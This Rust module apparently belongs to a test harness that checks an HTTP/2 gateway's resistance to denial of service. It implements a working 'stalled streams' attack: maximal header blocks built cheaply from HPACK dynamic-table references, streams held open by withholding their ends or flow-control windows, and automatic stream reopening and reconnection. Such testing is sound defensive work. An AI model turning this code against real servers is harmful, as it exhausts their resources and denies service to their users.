//! HTTP/2 streams that never end: a connection opens as many as the gateway allows, each with the
//! largest head that it allows, and withholds what would end them.
//!
//! A head costs the attacker a few bytes: one field is sent once, and further ones are references to
//! it. When the gateway resets a stream, the attacker opens the next one; when it closes the
//! connection, the attacker connects again.

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::Result;
use harness::Stack;
use harness::client::raw::Raw;
use tokio::task::JoinSet;

use super::frames::{self, END_HEADERS, END_STREAM, FrameReader, HeaderBlock, kind};
use super::{Credentials, configured};

/// Length of the repeated field's value. An entry of the dynamic table may have 4096 bytes.
const FIELD_BYTES: usize = 4_000;
/// Room in a head for its other fields and their names.
const OTHER_BYTES: usize = 400;
/// Index of the newest entry of the dynamic table.
const NEWEST: u8 = 62;
/// Interval in which a connection looks at the clock.
const TICK: Duration = Duration::from_millis(250);
/// Pause before a refused client connects again, so that the attack leaves CPU time to the gateway.
const RECONNECT: Duration = Duration::from_millis(100);

/// What the attacker withholds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Withheld {
    /// Room for the response: the stream's window is 0.
    Window,
    /// The end of the request's body, and room for the response.
    Body,
    /// The end of the request's head.
    Head,
}

/// The attack.
#[derive(Debug, Clone)]
pub struct StalledStreams {
    /// Number of connections at the same time.
    pub connections: usize,
    /// What the attacker withholds.
    pub withheld: Withheld,
    /// Keys that the connections use in turn.
    pub credentials: Vec<Credentials>,
    /// Path with its query.
    pub path: String,
    /// Time after which the attack ends.
    pub duration: Duration,
}

/// What the attacker sent.
#[derive(Debug, Clone, Copy, Default)]
pub struct Sent {
    /// Connections, including those that replaced closed ones.
    pub connections: u64,
    /// Streams, including those that replaced ended ones.
    pub streams: u64,
    /// Bytes above TLS.
    pub bytes: u64,
}

#[derive(Debug, Default)]
struct Counters {
    connections: AtomicU64,
    streams: AtomicU64,
    bytes: AtomicU64,
}

/// One connection of the attack.
#[derive(Debug, Clone)]
struct Attacker {
    port: u16,
    ca: PathBuf,
    withheld: Withheld,
    streams: usize,
    /// Header block of the first stream of a connection; it fills the dynamic table.
    first: HeaderBlock,
    /// Header block of each further stream.
    next: HeaderBlock,
    until: Instant,
    counters: Arc<Counters>,
}

impl StalledStreams {
    /// Runs the attack for its duration.
    pub async fn run(&self, stack: &Stack) -> Result<Sent> {
        let counters = Arc::new(Counters::default());
        let until = Instant::now() + self.duration;
        let streams = configured(stack, "max_concurrent_streams")?;
        let head_bytes = configured(stack, "max_request_headers_kb")? * 1024 - OTHER_BYTES;
        let repetitions = head_bytes / (FIELD_BYTES + 3);
        let mut tasks = JoinSet::new();
        for credentials in self.credentials.iter().cycle().take(self.connections) {
            let base = self.base(credentials);
            let field = "b".repeat(FIELD_BYTES);
            let repeated = |block: HeaderBlock, times| {
                (0..times).fold(block, |block, _| block.indexed(NEWEST))
            };
            let attacker = Attacker {
                port: stack.listen.https,
                ca: stack.certs.ca(),
                withheld: self.withheld,
                streams,
                first: repeated(base.clone().added("x-a", &field), repetitions - 1),
                next: repeated(base, repetitions),
                until,
                counters: counters.clone(),
            };
            tasks.spawn(attacker.run());
        }
        while let Some(result) = tasks.join_next().await {
            result?;
        }
        Ok(Sent {
            connections: counters.connections.load(Ordering::Relaxed),
            streams: counters.streams.load(Ordering::Relaxed),
            bytes: counters.bytes.load(Ordering::Relaxed),
        })
    }

    fn base(&self, credentials: &Credentials) -> HeaderBlock {
        // Static table: 1 `:authority`, 2 `:method GET`, 3 `:method POST`, 4 `:path`, 7 `:scheme https`,
        // 23 `authorization`.
        let method = if self.withheld == Withheld::Body { 3 } else { 2 };
        let block = HeaderBlock::default().indexed(method).indexed(7);
        let block = block.literal(1, "localhost").literal(4, &self.path);
        match credentials.authorization() {
            Some(value) => block.literal(23, &value),
            None => block,
        }
    }
}

impl Attacker {
    async fn run(self) {
        while Instant::now() < self.until {
            // The gateway may refuse or close the connection at any time.
            let _ = self.attack_once().await;
            tokio::time::sleep(RECONNECT).await;
        }
    }

    /// Holds one connection until it is closed or the attack ends.
    async fn attack_once(&self) -> Result<()> {
        let mut raw = Raw::connect_http2(self.port, &self.ca).await?;
        self.counters.connections.fetch_add(1, Ordering::Relaxed);
        let mut bytes = frames::opening(0);
        let mut stream = 1;
        self.open(&mut bytes, stream, &self.first);
        // A block without an end occupies the connection: no other stream can begin.
        let streams = if self.withheld == Withheld::Head { 1 } else { self.streams };
        for _ in 1..streams {
            stream += 2;
            self.open(&mut bytes, stream, &self.next);
        }
        self.send(&mut raw, &bytes).await?;
        let mut reader = FrameReader::default();
        while Instant::now() < self.until {
            let Some(read) = raw.read_within(TICK).await? else { continue };
            reader.add(&read);
            let mut bytes = Vec::new();
            while let Some((kind, _)) = reader.next() {
                match kind {
                    kind::GOAWAY => return Ok(()),
                    kind::RST_STREAM => {
                        stream += 2;
                        self.open(&mut bytes, stream, &self.next);
                    }
                    _ => {}
                }
            }
            self.send(&mut raw, &bytes).await?;
        }
        Ok(())
    }

    fn open(&self, bytes: &mut Vec<u8>, stream: u32, block: &HeaderBlock) {
        self.counters.streams.fetch_add(1, Ordering::Relaxed);
        let flags = match self.withheld {
            Withheld::Window => END_HEADERS | END_STREAM,
            Withheld::Body => END_HEADERS,
            Withheld::Head => 0,
        };
        frames::push(bytes, kind::HEADERS, flags, stream, block.bytes());
    }

    async fn send(&self, raw: &mut Raw, bytes: &[u8]) -> Result<()> {
        if !bytes.is_empty() {
            raw.write(bytes).await?;
            self.counters.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        }
        Ok(())
    }
}
